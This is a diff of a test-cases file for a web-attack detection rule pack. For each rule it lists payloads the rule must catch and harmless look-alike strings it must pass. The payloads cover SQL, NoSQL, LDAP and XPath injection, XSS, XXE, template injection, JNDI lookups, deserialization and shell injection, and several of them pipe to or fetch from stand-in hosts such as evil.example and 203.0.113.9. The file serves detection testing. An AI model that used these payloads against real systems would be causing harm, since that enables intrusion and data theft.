@@ -1,266 +1,541 @@
-/** What a rule has to match, and what comes close and has to pass. */
+/** What a rule has to match, and what comes close and has to pass it. */
 export interface RuleCases {
   readonly hits: readonly string[];
   readonly misses: readonly string[];
 }
 
-/** Cases of every rule of the own pack, by its number. */
-export const CASES: Readonly<Record<string, RuleCases>> = {
+/** Cases of every rule of the own pack about databases and directories, by its number. Every attack is of our own making. */
+const QUERIES: Readonly<Record<string, RuleCases>> = {
   101110: {
-    hits: ["x' or 1=1", "nobody' and 'a'='a", 'z") or ("1"="1', "7' order by 3"],
-    misses: ["It's here or there", "O'Brien and sons", "the 'in' operator", "rock 'n' roll"],
+    hits: ["x' or name like 'b", "nobody') and (total > 3", 'z" or "q"="q'],
+    misses: ["O'Brien or Sons = 2", "it's here or there", "status = 'open' and age > 5", "'main' or 'dev'"],
+  },
+  101111: {
+    hits: ["x' or true--", "x' and length('a')", "q' || 1 #"],
+    misses: ["the 'a' or 'b' option", "rock 'n' roll", "O'Neil and 5 others"],
+  },
+  101112: {
+    hits: ["7' order by 3", "x' limit 1", "b') having sum(a"],
+    misses: ["Ana's order by phone", "the 'main' union", "it's limited"],
   },
   101120: {
-    hits: ["1 union select 2", "x') UNION ALL SELECT name FROM staff", "1/**/union/**/select/**/2"],
-    misses: ["select a union representative", "the European Union selected", "union: select one"],
+    hits: ["1 union select 2", "x') UNION ALL SELECT name FROM staff", "9/**/union/**/select/**/null,1"],
+    misses: ["The union select committee met", "union: select one", "the European Union selected 3"],
+  },
+  101121: {
+    hits: ["1 union select", "2 union all select from"],
+    misses: ["The union select committee met", "credit union selection"],
   },
   101130: {
-    hits: ["' or 1=1--", "x or 'a'='a", "1 and 2 = 2", "admin' || 5=5"],
-    misses: ["one and two", "5 or 6 items and 64", "sizes 3 and 4 are sold out", "true or false?"],
+    hits: ["' or 7=7--", "x or 'ab'='ab'", "1 and 2 = 2", "admin' || 5=5"],
+    misses: ["one and two", "5 or 6 items = 7", "true or false?"],
   },
+  101131: { hits: ["1 and 3=4", "x or 'a'='b"], misses: ["sizes 3 and 4 are sold out", "5 > 3 && 2 < 4"] },
+  101132: { hits: ["x or a=b--", "7 and name like 'q' #"], misses: ["salt and pepper", "terms and conditions - 2026"] },
   101140: {
-    hits: ["1; drop table staff", "x'; insert into t values (1)", "5); exec xp_cmdshell"],
-    misses: ["Hello; select an item", "first; update later", "a; b; c"],
+    hits: ["5) and (2=2", "7 or sleep(1)", "3 || (select 1)"],
+    misses: ["1 or 2 people", "5 and a half", "1; mode=block"],
+  },
+  101141: {
+    hits: ["or exists(select 1)", ") and ascii(a)>5", "or 'x' in ('x')"],
+    misses: ["or nothing", "And so it goes (again)"],
   },
   101150: {
-    hits: ["extractvalue(1,concat(0x7e,(select version())))", "load_file(0x2f6574632f706173737764)"],
-    misses: ["count(items)", "user (admin)", "the concat function joins strings", "hex(color)"],
+    hits: ["1; drop table staff", "x'; insert into t values (1)", "5); exec xp_cmdshell", "a; waitfor delay '0:0:5'"],
+    misses: ["Hello; select an item", "first; update later", "a; b; c"],
+  },
+  101151: {
+    hits: ["drop table invoices", "delete from users where 1", "x' update staff set pay = 9", "exec sp_who"],
+    misses: [
+      "drop table reservations by Friday",
+      "delete from my list",
+      "update the settings",
+      "grant access to people",
+    ],
   },
   101160: {
-    hits: ["1'; waitfor delay '0:0:9'", "pg_sleep(9)", "benchmark(5000000,md5(1))", "x' and sleep(5)#"],
-    misses: ["sleep well (8 hours)", "benchmark (fast)", "wait for delay", "sleep(duration)"],
+    hits: ["1' and waitfor delay '0:0:9'", "pg_sleep(9)", "benchmark(5000000,md5(1))", "x' and sleep(5)#"],
+    misses: ["sleep well (8 hours)", "time.sleep(5)", "wait for delay"],
   },
+  101161: { hits: ["sleep(5)", "a;sleep(9)#"], misses: ["time.sleep(5)", "asleep (8 hours)"] },
   101170: {
-    hits: ["select table_name from information_schema.tables", "1=(select 1)", "@@version", "select 1 from dual"],
-    misses: ["Select from our information desk", "the master list", "version 2 of the schema"],
+    hits: [
+      "select load_file('/x')",
+      "exec master..xp_dirtree '//e/x'",
+      "copy t from program 'id'",
+      "1 into outfile '/tmp/x'",
+    ],
+    misses: ["load file into memory", "xp points", "copy a file to a program"],
   },
   101180: {
-    hits: ["admin' --", "x') /*", "a'#", "root'; -- "],
-    misses: ["it's -- well -- fine", "'quoted' # 5", "rock 'n' roll - live", "don't /path"],
+    hits: [
+      "extractvalue(1,concat(0x7e,a))",
+      "updatexml(null,concat(1),1)",
+      "exp(~(select 1))",
+      "cast(version() as int)=1",
+    ],
+    misses: ["exp(2)", "convert (fast)", "floor(x)"],
   },
   101190: {
-    hits: ["1' order by 9", "x' group by (1)", "1 having 1=1", "1 into outfile '/tmp/x'"],
-    misses: ["order by phone", "group by interest", "having a good time", "load file into memory"],
+    hits: ["ascii(substr(a,1,1))>64", "case when 1=1 then 1 else 0 end", "if(1=1,sleep(1),0)", "length(user())=4"],
+    misses: ["in case when it rains", "if (a) b", "length (cm)"],
   },
   101200: {
-    hits: ["'='", "a'='a", "x' like '%", "1' || '1"],
-    misses: ["the 'a' option", "'90s music", "Ana's and Bo's", "5' tall"],
+    hits: ["select @@version", "1 and user()", "union select current_setting('port')"],
+    misses: ["version()", "the user (admin)", "select version 2"],
   },
   101210: {
-    hits: ["drop table invoices", "delete from users where 1", "x'; update staff set pay = 9", "exec sp_who"],
-    misses: ["Please drop us a note", "delete from my list", "update the settings", "grant access to people"],
+    hits: ["select a from information_schema.tables", "from sqlite_master", "from all_tables", "from mysql.user"],
+    misses: ["from our information desk", "the master list", "from dusk"],
   },
   101220: {
-    hits: ["select name, pass from staff", "(select a from b)", "=select 1,2 from t"],
-    misses: ["Select a color from the list below.", "to select from", "Preselect one from many"],
+    hits: ["1=(select 1)", "a,(select b from c)", "x in (select y)"],
+    misses: ["select (a)", "a (selected) item"],
+  },
+  101221: {
+    hits: ["select name, pass from staff", "select * from t"],
+    misses: ["Select a color from the list below.", "to select from"],
+  },
+  101222: {
+    hits: ["select * from users", "select 1,2", "select password, login from t"],
+    misses: ["select a user from the list", "Select 1 item"],
   },
   101230: {
-    hits: ["1 or 1=1", "5) and (2=2", "7 union all select", "1;select 1"],
-    misses: ["1 or 2 people", "5 and a half", "2026-01-02", "1; mode=block"],
+    hits: ["admin' --", "x') /*", "a'#", "root'; -- "],
+    misses: ["it's -- well -- fine", "'quoted' # 5", "don't /path"],
   },
+  101240: {
+    hits: ["1' order by 9--", "x' group by (1)", "1 having 1=1"],
+    misses: ["order by phone", "having a good time", "in order by date"],
+  },
+  101250: {
+    hits: ["a'='a", "'-'", "1' like '%", "x'||'y"],
+    misses: ["6'-2\"", "'90s music", "Ana's and Bo's", "5' tall"],
+  },
+  101251: { hits: ['x"") or (""a""=""a', "q'') or ('' = ''"], misses: ['say ""hi""', "it''s"] },
+  101260: {
+    hits: ["cus_358b05c80a469d' or", "00000000-1111-2222-3333-444444444444'", '123456789"'],
+    misses: ["cus_358b05c80a469d", "don't", "5'10"],
+  },
+  101270: {
+    hits: ["1/*!50000union*/ x", "uni/**/on sel/**/ect", "or/**/1"],
+    misses: ["/*! normalize.css v8 */", "src/**/*.ts", "/* or */ x"],
+  },
+  101280: {
+    hits: ["char(97,98,99)", "concat(0x7e,a)", "like char(37)", "a = 0x61646d696e "],
+    misses: ["0x23352036e911a22cfc692b5e2e196692658aded9", "char (a)", "concat(a, b)"],
+  },
+  101290: {
+    hits: ["\u2019 or \u20181\u2019=\u20191", "\u02bc or 1=1"],
+    misses: ["Ana\u2019s or Bo\u2019s", "it\u2019s so"],
+  },
+  106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "$comment", "$schema", "$id"] },
+  106120: { hits: ["user[$ne]=1", '{"$gt":""}', "1, $where: '1'"], misses: ["$gt", "costs $in total", "{$name}"] },
+  106130: {
+    hits: ["';return this.a=='b", "'||'a'=='a", "|| 1==1//", "x';while(1)"],
+    misses: ["this.name", "return this", "'a' || 'b'"],
+  },
+  106140: {
+    hits: ["db.users.find({})", "do{a=new Date();}while(a<b)", "}, {pass: /.*/ }"],
+    misses: ["db.users", "do it while you can", "new date"],
+  },
+  106150: {
+    hits: ["' with 1 as a", "LOAD CSV FROM 'http://e'", "call apoc.load.json"],
+    misses: ["'with 2", "call the office", "load a csv"],
+  },
+  113110: { hits: ["*)(uid=*", "x)(|(a=b", "a)(cn=b"], misses: ["(a)(b)", "50*2=100", "f(x)(y)"] },
+  113120: { hits: ["(objectClass=*)", "(&(uid=a)(mail=b))", "(sn=admin)"], misses: ["(a=b)", "uid 5", "(mail me)"] },
+  113130: { hits: ["*)(&", "admin)(&)", "*))%00"], misses: ["********", "*bold*", "(x)", "!!!"] },
+  114110: {
+    hits: ["' or count(//x)=1", "'] | //*[", "x' or name(/*)='a"],
+    misses: ["' or '", "the 'name' (full)", "a // b"],
+  },
+  114120: {
+    hits: ["string-length(/x)", "count(/child::node())", "//user[name='x']"],
+    misses: ["count(items)", "a // b", "position (left)"],
+  },
+  114130: {
+    hits: ["doc('http://e/x')", "for $x in doc('a')", "let $a := 1"],
+    misses: ["see doc (1)", "let it be", "for x in y"],
+  },
+};
+
+/** Cases of the rules about markup. */
+const MARKUP: Readonly<Record<string, RuleCases>> = {
   102110: {
-    hits: ["<script>x</script>", "<IFRAME src=//evil.example>", "<svg/onload=x()>", "< script src=x>"],
-    misses: ["<p>text</p>", "<b>scripts</b>", "List<String>", "<link to resource>"],
+    hits: ["<script>x</script>", "< script src=x>", "<svg:script>"],
+    misses: ["<p>text</p>", "<b>scripts</b>", "a <scripted> b"],
+  },
+  102111: { hits: ["<object data=x>", "<embed src=x>", "<applet code=x>"], misses: ["an <objective> b", "embedded"] },
+  102112: {
+    hits: ["<IFRAME src=//evil.example>", "<iframe src=javascript:x>"],
+    misses: ['<iframe width="5" src="https://www.youtube.com/embed/x"></iframe>', "an iframe"],
+  },
+  102113: {
+    hits: [
+      "<base href=//e>",
+      '<meta http-equiv="refresh" content=0>',
+      "<style>a{}</style>",
+      "<link rel=stylesheet href=//e>",
+    ],
+    misses: ["<link to resource>", "<stylish>", "<basement>"],
+  },
+  102114: {
+    hits: ["<svg><animate attributeName=href>", "<svg/onload=x()>", "<math><foreignObject>", "<use href='data:x'>"],
+    misses: ['<svg width="5"><path d="M0"/></svg>', "<settings>"],
+  },
+  102115: { hits: ["<svg>", '<math xmlns="x">'], misses: ["svg", "<mathematics>"] },
+  102116: { hits: ["<form action=//e>", "<button formaction=x>", "<input autofocus>"], misses: ["<format>", "a form"] },
+  102117: {
+    hits: ["<noscript><p>", "<template>", "<!--[if IE]>", "<marquee>"],
+    misses: ["<templates>", "<!-- if -->"],
   },
   102120: {
-    hits: ["<img src=x onerror=go()>", "<p onclick='go()'>", '" onfocus="go()', "x onmouseover = go"],
+    hits: ["<img src=x onerror=go()>", "<p onclick='go()'>", "<a/onmouseover=x>"],
+    misses: ["<p>only = 5</p>", "a < b on Monday"],
+  },
+  102121: {
+    hits: ['" onfocus="go()', "x onmouseover = go", "'onload=x"],
     misses: ["based on=5", "on Monday = closed", "online=true", "version=2"],
   },
   102130: {
-    hits: ["javascript:go()", "java\tscript:go()", "VBScript:x", "data:text/html,<b>"],
-    misses: [
-      "JavaScript is a language",
-      "JavaScript: The Good Parts",
-      "typescript: 7.0",
-      "data: see below",
-      "data:image/png;base64,AAAA",
-    ],
+    hits: ["javascript:go()", "java\tscript:go()", "<a href=vbscript:x>", "[x](javascript:y)"],
+    misses: ["JavaScript is a language", "JavaScript: The Good Parts", "typescript: 7.0"],
+  },
+  102131: {
+    hits: ["see javascript:go(1)", "x javascript://%0a1"],
+    misses: ["JavaScript: The Good Parts", "written in javascript: yes"],
+  },
+  102132: {
+    hits: ["data:text/html,<b>", "x data:image/svg+xml;base64,AA"],
+    misses: ["data: see below", "data:image/png;base64,AAAA"],
+  },
+  102133: {
+    hits: ["<a href=j&#97;v>", "<img src='&#x6a;a'>", "<a href=jav&tab;x>"],
+    misses: ["<a href=https://x.example>", "<a href=/j>"],
   },
   102140: {
     hits: ["';alert(1)//", '"-confirm(2)-"', "`);eval('x')", "};location.href='//evil.example'"],
-    misses: ["'alert' (noun)", "red alert! (again)", "it's location, location", "'print' the page"],
+    misses: ["'alert' (noun)", "red alert! (again)", "'print' the page"],
   },
   102150: {
-    hits: ["alert(1)", "prompt('x')", "document.cookie", "top['al'+'ert'](1)", "String.fromCharCode(88)"],
-    misses: ["alert level (high)", "document the cookie policy", "an alert was sent", "prompt (short)"],
+    hits: ["alert(1)", "prompt('x')", "(alert)(1)", "[1].map(alert)"],
+    misses: ["alert level (high)", "an alert was sent", "prompt (short)"],
+  },
+  102151: {
+    hits: ["eval(atob('x'))", "top['al'+'ert'](1)", "String.fromCharCode(88)", "[][(![]+[])]"],
+    misses: ["the top [1]", "function (x)", "evaluate"],
+  },
+  102152: {
+    hits: ["document.cookie", "x.innerHTML='y'", "new Image().src='//e'", "location='//evil.example'"],
+    misses: ["document the cookie policy", "the location = Leeds", "window.open(x)"],
   },
   102160: {
     hits: ["width: expression(go())", "@import 'x.css'", "-moz-binding:url(x)", "background:url(javascript:x)"],
-    misses: ["a facial expression (happy)", "url(https://x.example/a.png)", "good behavior: yes", "import taxes"],
+    misses: ["a facial expression (happy)", "url(https://x.example/a.png)", "import taxes", "good behavior: yes"],
   },
+  102161: { hits: ["<b style='background:url(x.svg#a)'>", "*{color:red/*"], misses: ["<b style='color:red'>", "*{a}"] },
+  102162: { hits: ["<b style='font-family:a[b'>", '<i style="x{y">'], misses: ["<b style='color:red'>", "style[0]"] },
   102170: {
-    hits: ['"><b>x', "'/><img>", "</script><p>", "--> <b>", "x</title><b>"],
-    misses: ["a > b", 'see "this"', "<!-- note", "</p><p>"],
+    hits: ['"><b>x', "'/><img>", "</script><p>", "x</title><b>", "--> <b>"],
+    misses: ["a > b", 'see "this"', "</p><p>"],
   },
+  102171: { hits: ["<img/src/=x", "<x onx>", "<p srcdoc=x>", "<<img src=x>"], misses: ["<img src='a.png'>", "1 << 2"] },
+  102172: { hits: ["<![CDATA[x", '<?xml version="1.0"?>', "<?xml-stylesheet x?>"], misses: ["xml", "<xmlns>"] },
+  102173: { hits: ["<body background=x>", "<img src=x>"], misses: ["<body>", '<img src="https://x.example/a.png">'] },
   102180: {
-    hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "{{$on.curry.call()}}", "<b v-html='x'>"],
-    misses: ["{{name}}", "{{ user.name }}", "ng-book", "v-neck shirt"],
+    hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "<b v-html='x'>", "<b x-init=y>"],
+    misses: ["{{name}}", "ng-book", "v-neck shirt"],
   },
+  102190: { hits: ["+ADw-script+AD4-", "\uff1cscript", "&#x000003c"], misses: ["a+b", "&#x3c", "1+1"] },
+  110110: {
+    hits: ['<!DOCTYPE a [<!ENTITY b "x">]>', '<!DOCTYPE a SYSTEM "http://e">', "<!DOCTYPE html [x"],
+    misses: ["<!DOCTYPE html>", '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x">'],
+  },
+  110111: {
+    hits: ["<!ENTITY x 'y'>", "<!ENTITY % p SYSTEM 'z'>", "<!ATTLIST a b"],
+    misses: ["an entity", "<!-- entity -->"],
+  },
+  110120: {
+    hits: ['SYSTEM "file:///x"', "SYSTEM 'http://e/x.dtd'", "%dtd; %send;"],
+    misses: ["the system 'file'", "50%; done"],
+  },
+  110121: { hits: ["&xxe;", "<a>&exfil;</a>"], misses: ["&amp;", "<a>&lt;</a>", "&nbsp;"] },
+  110130: {
+    hits: ["<xi:include href='x'/>", "<a xsi:schemaLocation='x http://e'>", 'encoding="UTF-7"'],
+    misses: ["include", 'encoding="UTF-8"'],
+  },
+  119110: { hits: ['<!--#exec cmd="id"-->', "<!-- #include file='x' -->"], misses: ["<!-- a comment -->", "# echo"] },
+  119111: { hits: ['<esi:include src="x"/>', "$(HTTP_COOKIE{'x'})"], misses: ["<essay>", "$(cost)"] },
+  119120: {
+    hits: ["<xsl:value-of select='x'/>", "document('file:///x')", "php:function('x')"],
+    misses: ["the document (old)", "xsl style"],
+  },
+};
+
+/** Cases of the rules about programs and templates. */
+const CODE: Readonly<Record<string, RuleCases>> = {
   103110: {
-    hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://evil.example)"],
-    misses: ["cats; dogs", "ping | pong", "R&D; sales", "&lt;source&gt;", "Tom & Jerry", "a; b | c"],
+    hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://e)"],
+    misses: ["R&D; sales", "&lt;source&gt;", "Tom & Jerry"],
   },
-  103111: {
-    hits: ["x; find / -name id_rsa", "a | tail -n 5", "b;php -r 'x'", "1 & type c:\\boot.ini"],
-    misses: ["one | more options", "colors; type of paper", "Fast & more", "date; time"],
-  },
+  103111: { hits: ["x; cat /etc/x", "x|id", "1 & sleep 5"], misses: ["cats; dogs", "ping | pong", "a; b | c"] },
   103112: {
-    hits: ["{cat,/etc/passwd}", ";X=$'id';$X", "a${IFS}b", "{ls,-la}"],
-    misses: ["{id, name}", "x='1'; y='2'", "{cat, dog}", "total=$5"],
+    hits: ["x; find / -name id_rsa", "a | tail -n 5", "1 & type c:\\boot.ini"],
+    misses: ["one | more options", "colors; type of paper", "date; time"],
   },
   103113: {
-    hits: [
-      "net user eve Secret1 /add",
-      'reg add "HKLM\\Software"',
-      "netsh firewall set opmode disable",
-      "ipconfig /all",
-    ],
-    misses: ["net user growth", "the net user count rose", "register now", "session viewer"],
+    hits: ["{cat,/etc/x}", ";X=$'id';$X", "a${IFS}b", "w'h'oami"],
+    misses: ["{id, name}", "x='1'; y='2'", "{cat, dog}"],
+  },
+  103114: {
+    hits: ["net user eve Secret1 /add", 'reg add "HKLM\\Software"', "ipconfig /all", "certutil -urlcache x"],
+    misses: ["net user growth", "register now", "session viewer"],
+  },
+  103115: {
+    hits: ["powershell -enc AAAA", "IEX(x)", "(New-Object Net.WebClient).DownloadString('x')"],
+    misses: ["PowerShell is a shell", "index (x)"],
   },
   103120: {
-    hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "powershell -enc AAAA", "cat /etc/hosts"],
-    misses: ["bash is a shell", "a cat and a dog", "chmod explained", "curl is a tool", "cmd key"],
+    hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "cat /etc/hosts", "curl http://e | sh"],
+    misses: ["bash is a shell", "a cat and a dog", "chmod explained"],
+  },
+  103121: {
+    hits: ["wget http://evil.example/x", "uname -a", "ls -la /"],
+    misses: ["list", "sleep 5 hours", "ping me"],
   },
   103130: {
-    hits: ["$(id )", "`whoami`", "x`sleep 9`", "$(cat </etc/hosts)", "${path:0:1}"],
-    misses: ["run `npm test` first", "$100 (net)", "${total}", "a `code` span"],
+    hits: ["x`sleep 9`", "$(cat </etc/hosts)", "`/usr/bin/id`"],
+    misses: ["run `npm test` first", "$100 (net)"],
   },
-  103140: { hits: ["() { :; }; echo x", "() { _; }"], misses: ["() => { x; }", "function () { return 1; }"] },
-  104110: {
-    hits: ["../../etc/hosts", "..\\..\\windows\\win.ini", "%2e%2e%2fsecret", "/a/../../b", "....//....//x"],
-    misses: ["see ../docs", "wait...", "1..10", "a/b/c.txt", "v1.2..v1.3"],
+  103131: { hits: ["$(nproc)", "`foo`", "${path:0:1}"], misses: ["${total}", "a `code` span"] },
+  103140: {
+    hits: ["() { :; }; echo x", "() { _; } >_[$($())] { x; }"],
+    misses: ["() => { x; }", "function () { return 1; }"],
   },
-  104111: {
-    hits: ["..%c0%af..%c0%afetc", "..%u2216windows", "%c0%ae%c0%ae%c1%9c.", ".%00.%5cetc"],
-    misses: ["100%..200%", "a..b", "50%25 off", "...%20etc."],
+  103150: {
+    hits: ["-oProxyCommand=x", "--upload-pack=x", "--checkpoint-action=exec"],
+    misses: ["--output", "-o file", "--help"],
   },
-  104112: {
-    hits: ["..2f..2f..2fx", "..%5c..%5cx", "..0x5c..0x5cx"],
-    misses: ["..2..3", "a..b..c", "..."],
+  103160: {
+    hits: ["x\r\nFLUSHALL\r\n", "a%0d%0aRCPT TO:<x@y.example>", "\nslaveof e 6379\n"],
+    misses: ["line one\nline two", "config set"],
   },
-  104113: {
-    hits: ["etc%c0%afpasswd", "etc2fshadow", "x/etc\\hosts"],
-    misses: ["etc. hosts", "etcetera", "etc, passwd"],
-  },
-  104120: {
-    hits: ["/etc/passwd", "c:\\windows\\win.ini", "/proc/self/environ", "/var/log/auth.log", "/home/x/.ssh/id_rsa"],
-    misses: ["etc/other", "the proc macro", "windows 11", "C:\\Users\\ana\\Documents", "/users/5", "my.env.name"],
-  },
-  104130: {
-    hits: ["php://filter/read=x", "file:///etc/hosts", "phar://x.phar", "expect://id"],
-    misses: ["php: a language", "zip code: 12345", "file: report.pdf", "https://x.example/file"],
-  },
-  104140: {
-    hits: ["a.php%00.png", "x.jsp\u0000.jpg", "y%2500"],
-    misses: ["100%", "20%005", "a.b.c", "0.00"],
-  },
-  105110: {
-    hits: [
-      "http://127.0.0.1/",
-      "http://10.1.2.3:8080/x",
-      "http://0x7f000001/",
-      "http://2130706433/",
-      "http://[::1]/",
-      "https://169.254.169.254/",
-      "http://x.nip.io",
-    ],
-    misses: [
-      "https://api.example.com/10.0.0.1",
-      "http://8.8.8.8/",
-      "https://11.example",
-      "ratio http: 10",
-      "https://0604013.mock.example/",
-    ],
-  },
-  105120: {
-    hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
-    misses: ["mailto:a@b.example", "a dictionary: yes", "tcp: a protocol", "https://x.example"],
-  },
-  105130: {
-    hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/"],
-    misses: ["the latest metadata", "169.254 is a prefix", "/v1/metadata"],
-  },
-  105140: {
-    hits: [
-      "http://localhost",
-      "https://localhost:22/",
-      "http://x.example/?u=http://localhost",
-      "http://localhost:6379",
-    ],
-    misses: ["http://localhost:3000/users", "localhost", "run it on localhost", "https://localhost.example.com/"],
-  },
-  106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "where", "$schema", "$id"] },
-  106120: {
-    hits: ["user[$ne]=1", '{"$gt":""}', "';return this.a=='b", "db.users.find({})", "'||'a'=='a"],
-    misses: ["$gt", "db.users", "this.name", "the $where clause of SQL: no"].slice(0, 3),
-  },
-  107110: {
-    hits: ["{{7*7}}", "${7*7}", "<%= system('id') %>", "#{7*7}", "{{config.items()}}", "{{self.__init__}}"],
-    misses: ["{{name}}", "${total}", "{{ user.first_name }}", "#{id}", "{% name %}"],
-  },
+  103170: { hits: ["\u001b[2Jcurl x", "\\033[2wget x", "\u001b]0;x"], misses: ["\u001b[31mred\u001b[0m", "[2A"] },
+  107110: { hits: ["{{7*7}}", "${7*7}", "#{7*7}", "{{'a'*7}}"], misses: ["{{name}}", "${total}", "7*7"] },
   107120: {
-    hits: ["T(java.lang.Runtime).getRuntime()", "x.__class__.__mro__", "#set($x=1)", "@java.lang.System@x"],
-    misses: ["java.lang.String", "a class in Java", "getRuntime", "java.lang.Thread.run(Thread.java:1)"],
+    hits: ["x.__class__.__mro__", "a|attr('__globals__')", "['__init__']"],
+    misses: ["__init__.py", "a class"],
+  },
+  107121: {
+    hits: ["{{config.items()}}", "{{ self }}", "{{request.application}}", "{{ lipsum(1) }}"],
+    misses: ["{{name}}", "{{ user.first_name }}", "{{ request.id }}"],
   },
   107130: {
-    hits: ["<%= name %>", "{% include 'x' %}", "{{#with x}}", "{php}x{/php}", "{{= x}}"],
-    misses: ["{{name}}", "50 <% of", "{% if", "{x} and {y}"].filter((text) => text !== "{% if"),
+    hits: ["<%= system('id') %>", "{{ x.popen('id') }}", "${eval('x')}", "<%= `ls` %>"],
+    misses: ["{{ total }}", "system('id')"],
   },
-  108110: {
-    hits: ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:x}", "${env:AWS_SECRET:-x}", "${j${::-n}di:x}"],
-    misses: ["${name}", "$jndi", "${HOME:-/root}", "jndi:ldap"],
+  107131: {
+    hits: ["{{ ['id']|filter('system') }}", "{{_self.env}}", "{% debug %}"],
+    misses: ["{{ a|b }}", "a | filter"],
   },
-  109110: {
-    hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: x", "a\nHTTP/1.1 200", "%0D%0A<b>"],
-    misses: ["line one\nline two", "a\r\nb", "10%0 off", "cookie: yes"],
+  107140: {
+    hits: ["T(java.lang.Runtime)", "x.getClass().forName('y')", "getRuntime().exec", "new ProcessBuilder('x')"],
+    misses: ["java.lang.String", "a class in Java", "getRuntime"],
   },
-  110110: {
-    hits: ['<!DOCTYPE a [<!ENTITY b SYSTEM "x">]>', "<!ENTITY x 'y'>", "<xi:include href='x'/>", "&xxe;"],
-    misses: ["<!DOCTYPE html>", "&amp;", "an entity", "the operating system 'file'"],
+  107141: {
+    hits: ["#_memberAccess['x']", "@java.lang.System@x", "%{1+1}", "${#a=1}"],
+    misses: ["a@b.example", "100%", "#context"],
   },
-  111110: {
-    hits: ['O:4:"User":1:{s:1:"a";i:1;}', "rO0ABXNyAA", "_$$ND_FUNC$$_function", 'a:1:{i:0;s:1:"x";}'],
-    misses: ["O: 4", "ratio a:1:2", "Rob", "acetic acid"],
+  107142: {
+    hits: ["${pageContext.request}", "${''.getClass()}", "#{session.x}", "__${x}__::"],
+    misses: ["${total}", "${user.name}"],
+  },
+  107150: {
+    hits: ['<#assign x="y">', '${"x"?new()}', "#set($x='y')", "$x.class.inspect"],
+    misses: ["#set", "$5.00", "<#1>"],
+  },
+  107160: { hits: ["<%= name %>", "<% system('x') %>", "<jsp:include>"], misses: ["50 <% of", "5 % > 3"] },
+  107161: { hits: ["{php}x{/php}", "{system('x')}", "{$smarty.version}", "{!! x !!}"], misses: ["{name}", "{if}"] },
+  107162: {
+    hits: ["{{#with x}}", "{{= x}}", "{{range.constructor('x')}}", "#{root.process}"],
+    misses: ["{{name}}", "{{#if x}}"],
+  },
+  107163: { hits: ["@(a.b)", "@System.IO.File", '{{printf "%v" .}}', "{{ . }}"], misses: ["me@example.com", "@name"] },
+  107170: {
+    hits: ["{% include 'x' %}", "{% import 'x' as y %}", "{% set x = y.z %}"],
+    misses: ["{% name %}", "{% else %}"],
+  },
+  107171: { hits: ["{% for a in b %}", "{% endif %}", "{{ a('b') }}"], misses: ["{{name}}", "{% x %}"] },
+  108110: { hits: ["${jndi:ldap://x.example/a}", "${jndi}", "${ JNDI :x"], misses: ["jndi:ldap", "$jndi"] },
+  108111: { hits: ["${${lower:j}ndi:x}", "${j${::-n}di:x}"], misses: ["${a}${b}", "${name}"] },
+  108112: { hits: ["${lower:J}", "${::-j}", "${env:NOTHING:-j}"], misses: ["${HOME:-/root}", "${name}"] },
+  108120: {
+    hits: ["${script:js:x}", "${dns:evil.example}", "${env:AWS_SECRET_ACCESS_KEY}", "${java:version}"],
+    misses: ["${file}", "${url}"],
+  },
+  108121: { hits: ["${env:HOME}", "${sys:user.name}"], misses: ["${name}", "env:HOME"] },
+  111110: { hits: ["rO0ABXNyAA==", "AAEAAAD/////AQ", "gASVKAAAAA=="], misses: ["Rob", "AAAA", "gasoline"] },
+  111111: { hits: ['O:4:"User":1:{s:1:"a";i:1;}', 'a:1:{i:0;s:1:"x";}'], misses: ["O: 4", "ratio a:1:2"] },
+  111112: {
+    hits: ["!!python/object/apply:os.system", "!ruby/object:Gem::Requirement", "!!javax.script.X"],
+    misses: ["!!important", "!ruby"],
+  },
+  111113: { hits: ["cos\nsystem\n(S'id'\ntR.", "(dp0\n"], misses: ["cost\nsystem", "(dp)"] },
+  111114: { hits: ["_$$ND_FUNC$$_function", '{"__js_function":"x"}'], misses: ["a function", "$$"] },
+  111115: {
+    hits: ["ysoserial.jar", "org.apache.commons.collections.Transformer", "com.sun.rowset.JdbcRowSetImpl"],
+    misses: ["a priority queue", "collections"],
+  },
+  111116: {
+    hits: ["<java><object class='x'>", "<sorted-set>", "<void method='x'>"],
+    misses: ["<javanese>", "<object>"],
   },
   111120: {
     hits: ['{"@type":"com.sun.rowset.X"}', '{"$type":"System.X, Y"}', "{'py/object':'os.system'}"],
     misses: ['{"type":"user"}', '{"@id":"x"}', "@type: user"],
   },
-  111130: { hits: ["@class", "$type", "py/object"], misses: ["class", "type", "@id"] },
+  111130: { hits: ["@class", "$type"], misses: ["class", "type", "@id"] },
+  111131: { hits: ["json_class", "py/object"], misses: ["class", "py"] },
+  111140: {
+    hits: ["java.lang.Runtime", "com.sun.rowset.JdbcRowSetImpl", "System.Diagnostics.Process, System"],
+    misses: ["java.lang.String", "system"],
+  },
   112110: {
     hits: ["__proto__", "constructor.prototype", "a[__proto__]"],
     misses: ["proto", "constructor", "prototype"],
   },
   112120: {
-    hits: ["__proto__[x]=1", "constructor.prototype.x=1", 'x["__proto__"]="y"', "__defineGetter__"],
-    misses: ["the prototype chain", "constructor (builder)", "proto files"],
+    hits: ["__proto__[x]=1", "constructor.prototype.x=1", 'x["__proto__"]="y"'],
+    misses: ["the prototype chain", "constructor (builder)", "#sec-object.prototype.__proto__"],
   },
-  113110: {
-    hits: ["*)(uid=*", "x)(|(a=b", "*)(&", "(|(cn=*))"],
-    misses: ["(a)(b)", "50*2=100", "5 (five) & more", "*bold*"],
-  },
-  114110: {
-    hits: ["' or count(//x)=1", "'] | //*[", "x' or name(/*)='a", "string-length(/x)"],
-    misses: ["count(items)", "' or '", "the name (full)", "a // b"],
+  112130: {
+    hits: ["Object.prototype.isAdmin = true", "a.__proto__;", "__defineGetter__('x')"],
